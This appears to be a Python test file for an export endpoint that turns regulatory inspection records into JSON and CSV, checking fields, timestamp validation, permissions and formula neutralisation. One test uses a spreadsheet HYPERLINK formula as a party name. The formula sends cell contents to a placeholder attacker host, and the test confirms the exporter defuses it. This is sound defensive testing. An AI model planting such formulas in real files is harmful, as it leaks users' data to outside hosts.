"""The national '互联网+监管' export: JSON and CSV, validated before export."""

import csv
import datetime as dt
import io

from tests.factories import record_create

BEIJING = dt.timezone(dt.timedelta(hours=8))


async def submit(client, inspector, partner, occurred_at: dt.datetime) -> str:
    body = record_create(inspector, partner)
    body["content"]["occurred_at"] = occurred_at.isoformat()
    answer = await client.post("/records", json=body, headers=inspector.headers)
    assert answer.status_code == 201, answer.text
    return body["id"]


async def test_json_and_csv_carry_the_field_set(client, inspector, partner, head) -> None:
    record_id = await submit(client, inspector, partner, dt.datetime(2026, 11, 20, 9, tzinfo=dt.UTC))
    query = "since=2026-11-01&until=2026-12-01"
    result = (await client.get(f"/exports/supervision-actions?{query}", headers=head.headers)).json()
    [row] = result["rows"]
    assert (row["action_id"], row["item_code"], row["party_code_type"]) == (record_id, "36010100100001", "uscc")
    assert row["certificate_nos"] == [
        f"C{inspector.principal.user_id.hex[:10]}",
        f"C{partner.principal.user_id.hex[:10]}",
    ]
    assert row["reported_at"] > row["action_time"]
    answer = await client.get(f"/exports/supervision-actions?{query}&format=csv", headers=head.headers)
    assert answer.headers["content-type"].startswith("text/csv")
    table = list(csv.DictReader(io.StringIO(answer.text.lstrip("\ufeff"))))
    assert table[0]["监管事项编码"] == "36010100100001" and table[0]["行为编号"] == record_id


async def test_a_row_reported_before_its_action_time_is_refused_by_name(client, inspector, partner, head) -> None:
    future = dt.datetime.now(dt.UTC) + dt.timedelta(days=2)  # a device clock running ahead
    bad = await submit(client, inspector, partner, future)
    good = await submit(client, inspector, partner, dt.datetime.now(dt.UTC) - dt.timedelta(hours=1))
    day = future.astimezone(BEIJING).date()  # the export's days are Beijing days: after 16:00 UTC, tomorrow's
    query = f"since={day - dt.timedelta(days=5)}&until={day + dt.timedelta(days=1)}"
    refused = await client.get(f"/exports/supervision-actions?{query}", headers=head.headers)
    assert refused.status_code == 422
    assert [e["field"] for e in refused.json()["errors"]] == [f"{bad}.reported_at"]
    skipped = (await client.get(f"/exports/supervision-actions?{query}&skip_invalid=true", headers=head.headers)).json()
    assert [r["action_id"] for r in skipped["rows"]] == [good]
    assert [r["action_id"] for r in skipped["rejected"]] == [bad]


async def test_inspectors_cannot_export(client, inspector) -> None:
    answer = await client.get(
        "/exports/supervision-actions?since=2026-01-01&until=2026-02-01", headers=inspector.headers
    )
    assert answer.status_code == 403


async def test_a_formula_like_cell_in_the_csv_is_neutralised(client, inspector, partner, head) -> None:
    body = record_create(inspector, partner)
    body["content"]["occurred_at"] = dt.datetime(2026, 11, 21, 9, tzinfo=dt.UTC).isoformat()
    body["content"]["party"]["name"] = '=HYPERLINK("http://evil.example/?d="&A2,"详情")'
    answer = await client.post("/records", json=body, headers=inspector.headers)
    assert answer.status_code == 201, answer.text
    query = "since=2026-11-21&until=2026-11-22&format=csv"
    exported = (await client.get(f"/exports/supervision-actions?{query}", headers=head.headers)).text
    [row] = [r for r in csv.DictReader(io.StringIO(exported.lstrip("\ufeff"))) if r["行为编号"] == body["id"]]
    assert row["监管对象名称"] == "'" + body["content"]["party"]["name"]
